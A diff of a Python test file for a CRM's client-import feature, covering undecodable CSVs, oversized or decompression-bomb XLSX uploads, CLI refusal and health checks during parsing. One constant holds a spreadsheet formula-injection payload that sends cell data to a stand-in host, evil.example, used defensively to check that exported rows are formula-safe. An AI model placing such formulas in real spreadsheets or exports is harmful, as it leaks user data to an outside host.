@@ -3,14 +3,43 @@ formulas, bytes no encoding explains, XLSX files that would take the web process
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
+import threading
 from pathlib import Path
+from typing import Any
 
-from crm.models import ImportStatus
+import openpyxl
+import pytest
+from aiohttp import FormData
+
+from admin_web.keys import IMPORTS
+from crm.models import ImportJob, ImportStatus
+from crmhub import cli
 from tests.admin_web.conftest import Browser
-from tests.admin_web.import_data import rows, write_csv
-from tests.admin_web.test_import import start, upload
+from tests.admin_web.import_data import (
+    HEADERS,
+    rows,
+    write_csv,
+    write_shared_strings_xlsx,
+)
+from tests.admin_web.test_import import start
+
+
+async def upload(browser: Browser, path: Path) -> tuple[int, str]:
+    """The upload form, the file streamed from disk (as a browser sends a big one)."""
+    await browser.get("/import")
+    form = FormData()
+    form.add_field("_csrf", await browser.csrf())
+    form.add_field("_back", "/import")
+    with path.open("rb") as source:
+        form.add_field("file", source, filename=path.name)
+        resp = await browser.client.post("/import", data=form)
+        text = await resp.text()
+    browser.page = resp.url.path
+    return resp.status, text
+
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -29,3 +58,82 @@ async def test_the_failed_rows_file_is_formula_safe(as_admin: Browser, tmp_path:
     assert (line, inn) == ("4", "1234567890")
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)
     assert "INN checksum is wrong" in reason
+
+
+# Byte 0x98 is no letter of Windows-1251, and a lone one is no UTF-8: no encoding fits.
+UNDECODABLE = ";".join(HEADERS).encode("cp1251") + b"\n\x98\xc0\xc1;7700000001\n"
+ENCODING_EN = "Could not tell the file&#39;s encoding: save it as UTF-8 or Windows-1251"
+
+
+def uploads(browser: Browser) -> list[Path]:
+    folder: Path = browser.app[IMPORTS].folder
+    return sorted(folder.iterdir()) if folder.exists() else []
+
+
+async def test_an_undecodable_csv_is_refused_and_deleted(as_admin: Browser, tmp_path: Path) -> None:
+    path = tmp_path / "clients.csv"
+    path.write_bytes(UNDECODABLE)
+    status, text = await upload(as_admin, path)
+    assert status == 200 and ENCODING_EN in text
+    assert uploads(as_admin) == []  # not kept for 30 days: gone at once
+    assert not await ImportJob.exists()
+
+
+def test_the_command_line_refuses_an_undecodable_csv(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setenv("CRMHUB_DATA_DIR", str(tmp_path / "data"))
+    monkeypatch.setenv("CRMHUB_DEFAULT_LOCALE", "ru")
+    monkeypatch.delenv("CRMHUB_DATABASE_URL", raising=False)
+    path = tmp_path / "clients.csv"
+    path.write_bytes(UNDECODABLE)
+    assert cli.main(["import", "clients", str(path)]) == 2
+    captured = capsys.readouterr()
+    assert "Traceback" not in captured.err + captured.out
+    assert "UTF-8 или Windows-1251" in captured.err
+    assert not (tmp_path / "data" / "imports").exists()  # refused before anything
+
+
+async def test_xlsx_past_the_limits_is_refused_and_deleted(
+    as_admin: Browser, tmp_path: Path
+) -> None:
+    many = write_shared_strings_xlsx(tmp_path / "many.xlsx", rows(2), extra_strings=500_001)
+    assert many.stat().st_size < 3 * 1024**2  # small to upload, too much to unpack
+    _status, text = await upload(as_admin, many)
+    assert "holds too many different texts to import" in text
+    bomb = write_shared_strings_xlsx(tmp_path / "bomb.xlsx", rows(2), padding=260 * 1024**2)
+    assert bomb.stat().st_size < 3 * 1024**2
+    _status, text = await upload(as_admin, bomb)
+    assert "too large to import once unpacked" in text
+    assert uploads(as_admin) == []
+    assert not await ImportJob.exists()
+
+
+async def test_healthz_answers_while_an_xlsx_is_parsed(
+    as_admin: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The parse is held open (openpyxl's load_workbook, watched, waits for a gate) for
+    as long as the test needs: /healthz must answer before it ends, which it cannot when
+    the parse runs on the event loop."""
+    path = write_shared_strings_xlsx(tmp_path / "big.xlsx", rows(300), extra_strings=50_000)
+    parsing, gate, parsed = threading.Event(), threading.Event(), threading.Event()
+    real = openpyxl.load_workbook
+
+    def watched(*args: Any, **kwargs: Any) -> Any:
+        parsing.set()
+        gate.wait(timeout=10)
+        try:
+            return real(*args, **kwargs)
+        finally:
+            parsed.set()
+
+    monkeypatch.setattr(openpyxl, "load_workbook", watched)
+    uploading = asyncio.ensure_future(upload(as_admin, path))
+    assert await asyncio.to_thread(parsing.wait, 30)
+    health = await as_admin.client.get("/healthz")
+    answered_during_parse = not parsed.is_set()
+    gate.set()
+    status, text = await uploading
+    assert health.status == 200 and (await health.json())["status"] == "ok"
+    assert answered_during_parse
+    assert status == 200 and "ООО Клиент 2" in text  # the preview, read from shared strings
